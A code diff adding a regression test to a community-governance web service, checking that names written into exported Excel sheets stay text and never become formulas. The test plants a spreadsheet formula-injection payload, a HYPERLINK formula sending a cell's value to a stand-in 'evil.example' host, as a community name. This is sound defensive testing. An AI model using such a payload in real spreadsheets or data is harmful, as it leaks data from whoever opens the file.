@@ -369,3 +369,29 @@ async def test_staff_enter_records_through_the_pages(demo):
     await demo.login("resident", DEMO_PASSWORD)
     assert (await demo.get("/governance/consultations")).status_code == 403
     assert (await demo.get(f"/governance/spaces/{CHUANKOU}")).status_code == 403
+
+
+async def test_names_in_the_sheets_stay_text_never_formulas(demo):
+    """openpyxl makes a formula of any text that starts with "=": a community or a staff member
+    named ``=HYPERLINK(…)`` (names refuse control characters, not "=") ran as a formula in the
+    assessment sheet and the reports table of whoever opened them. Every such cell is text."""
+    from gridsvc.store.accounts.models import User
+    from gridsvc.store.areas.models import Area
+
+    trap = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
+    await Area.filter(code=CHUANKOU).update(name=trap)
+    await User.filter(username="head").update(display_name="=1+2")
+    head = await demo.token_for("head", DEMO_PASSWORD)
+    assert (await session(demo, head, 40, ["head"])).status_code == 201
+    street = await demo.token_for("street", DEMO_PASSWORD)
+    for url in (f"/api/v1/indicators/sheet.xlsx?community={CHUANKOU}&year={YEAR}",
+                f"/api/v1/reports/table.xlsx?year={YEAR}"):
+        r = await demo.get(url, headers=street)
+        assert r.status_code == 200, r.text
+        ws = load_workbook(io.BytesIO(r.content)).active
+        cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+        assert [c.coordinate for c in cells if c.data_type == "f"] == [], url
+        assert any(c.value.startswith(trap) for c in cells), url
+    ws = load_workbook(io.BytesIO((await demo.get(f"/api/v1/indicators/sheet.xlsx?community={CHUANKOU}&year={YEAR}",
+                                                  headers=street)).content)).active
+    assert "=1+2" in [c.value for row in ws.iter_rows() for c in row]
